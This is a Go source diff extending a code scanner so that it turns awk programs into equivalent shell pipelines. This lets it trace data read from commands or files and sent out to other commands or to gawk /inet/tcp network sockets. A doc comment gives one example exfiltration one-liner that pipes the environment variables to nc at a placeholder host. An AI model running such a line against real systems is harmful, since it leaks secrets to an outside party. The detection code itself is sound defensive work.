@@ -319,6 +319,9 @@ func (s *state) scanCode(lang, code string, f frame) CodeFacts {
 		for _, cmd := range sc.awkPipes() {
 			s.parseString(cmd, f)
 		}
+		for _, line := range sc.awkLinked(nil, nil) {
+			s.parseString(line, f)
+		}
 	}
 	s.computedFacts(lang, code, &facts, f)
 	return facts
@@ -394,6 +397,165 @@ func (sc *scanner) awkPipes() []string {
 		}
 	}
 	return out
+}
+
+// awkLinked gives, for awk code that both takes data in from commands or
+// files ("cmd" | getline, getline < "file") and hands data out to commands
+// or sockets (print | "cmd", print |& "/inet/tcp/0/HOST/PORT"), a shell
+// pipeline standing for the data passing through it: "{ cmd; cat 'file';
+// } | out", one for each way out. awk 'BEGIN{while(("env"|getline l)>0)
+// print l | "nc H P"}' is env | nc H P.
+//
+// vars are the -v assignments of the command line, by name, and operands
+// its input files: a command named by a variable ("c=env; c | getline")
+// is read through them and the code's own assignments, and records read
+// from the operands (a rule other than BEGIN) are data coming in too.
+func (sc *scanner) awkLinked(vars map[string]string, operands []string) []string {
+	c := sc.code
+	var ins, outs []string
+	if len(operands) > 0 && awkMainRule(c) {
+		q := make([]string, len(operands))
+		for k, o := range operands {
+			q[k] = quoteWord(o)
+		}
+		ins = append(ins, "cat "+strings.Join(q, " "))
+	}
+	for i := 0; i < len(c) && len(ins)+len(outs) < MaxCommands; i++ {
+		switch {
+		case c[i] == '|' && i+1 < len(c) && c[i+1] != '&':
+			if j := skipSpace(c, i+1); j < len(c) && c[j] == '"' {
+				if v, _, ok := sc.str(j); ok && v.str != "" {
+					outs = append(outs, v.str)
+				}
+				continue
+			}
+			if rest := strings.TrimLeft(c[i+1:], " \t"); strings.HasPrefix(rest, "getline") {
+				k := i - 1
+				for k >= 0 && (c[k] == ' ' || c[k] == '\t' || c[k] == '(') {
+					k--
+				}
+				switch {
+				case k > 0 && c[k] == '"':
+					if open := strings.LastIndexByte(c[:k], '"'); open >= 0 && open+1 < k {
+						ins = append(ins, c[open+1:k])
+					}
+				case k >= 0 && isIdent(c[k]):
+					end := k + 1
+					for k >= 0 && isIdent(c[k]) {
+						k--
+					}
+					if v, ok := sc.awkVar(c[k+1:end], vars); ok {
+						ins = append(ins, v)
+					}
+				}
+			}
+		case strings.HasPrefix(c[i:], "getline"):
+			// getline [var] < "file"
+			j := skipSpace(c, i+len("getline"))
+			for j < len(c) && isIdent(c[j]) {
+				j++
+			}
+			if j = skipSpace(c, j); j < len(c) && c[j] == '<' {
+				if k := skipSpace(c, j+1); k < len(c) && c[k] == '"' {
+					if v, _, ok := sc.str(k); ok && v.str != "" {
+						ins = append(ins, "cat "+quoteWord(v.str))
+					}
+				}
+			}
+		case strings.HasPrefix(c[i:], "/inet/tcp/") || strings.HasPrefix(c[i:], "/inet4/tcp/") || strings.HasPrefix(c[i:], "/inet6/tcp/"):
+			// /inet/tcp/LPORT/HOST/RPORT: a connection out
+			end := i
+			for end < len(c) && c[end] != '"' && c[end] != '\'' && c[end] != ' ' && c[end] != ')' {
+				end++
+			}
+			if parts := strings.Split(c[i:end], "/"); len(parts) == 6 && parts[4] != "" && parts[5] != "" {
+				outs = append(outs, "cat > /dev/tcp/"+parts[4]+"/"+parts[5])
+			}
+			i = end
+		}
+	}
+	if len(ins) == 0 || len(outs) == 0 {
+		return nil
+	}
+	src := "{ " + strings.Join(ins, "; ") + "; }"
+	lines := make([]string, len(outs))
+	for k, o := range outs {
+		lines[k] = src + " | " + o
+	}
+	return lines
+}
+
+// awkVar is the value of an awk variable: a -v assignment, or one the
+// code makes of a literal.
+func (sc *scanner) awkVar(name string, vars map[string]string) (string, bool) {
+	if v, ok := vars[name]; ok {
+		return v, v != ""
+	}
+	if v, ok := sc.assignments()[name]; ok && v.known && v.str != "" {
+		return v.str, true
+	}
+	return "", false
+}
+
+// awkMainRule reports whether awk code has a rule other than BEGIN (one
+// that reads its input records): code not made only of BEGIN blocks.
+func awkMainRule(code string) bool {
+	rest := strings.TrimSpace(code)
+	for strings.HasPrefix(rest, "BEGIN") {
+		k := strings.IndexByte(rest, '{')
+		if k < 0 {
+			return true
+		}
+		depth, j := 0, k
+		for ; j < len(rest); j++ {
+			if rest[j] == '{' {
+				depth++
+			} else if rest[j] == '}' {
+				if depth--; depth == 0 {
+					break
+				}
+			}
+		}
+		if j >= len(rest) {
+			return false
+		}
+		rest = strings.TrimLeft(rest[j+1:], " \t\n;")
+	}
+	return rest != ""
+}
+
+// awkWords returns the -v assignments and the input files of an awk
+// command line (words), around its program text code.
+func awkWords(words []string, code string) (vars map[string]string, operands []string) {
+	seenCode := false
+	for k := 1; k < len(words); k++ {
+		w := words[k]
+		switch {
+		case !seenCode && (w == "-v" || w == "--assign") && k+1 < len(words):
+			if n, v, ok := strings.Cut(words[k+1], "="); ok {
+				if vars == nil {
+					vars = map[string]string{}
+				}
+				vars[n] = v
+			}
+			k++
+		case !seenCode && (w == "-F" || w == "-f" || w == "--field-separator" || w == "--file") && k+1 < len(words):
+			k++
+		case !seenCode && strings.HasPrefix(w, "-v") && strings.Contains(w, "="):
+			if n, v, ok := strings.Cut(w[2:], "="); ok {
+				if vars == nil {
+					vars = map[string]string{}
+				}
+				vars[n] = v // -vc=env
+			}
+		case !seenCode && strings.HasPrefix(w, "-") && w != "-":
+		case !seenCode && w == code:
+			seenCode = true
+		case seenCode && !strings.Contains(w, "="):
+			operands = append(operands, w)
+		}
+	}
+	return vars, operands
 }
 
 // hook reports what one call does; rest is the code after the call. It
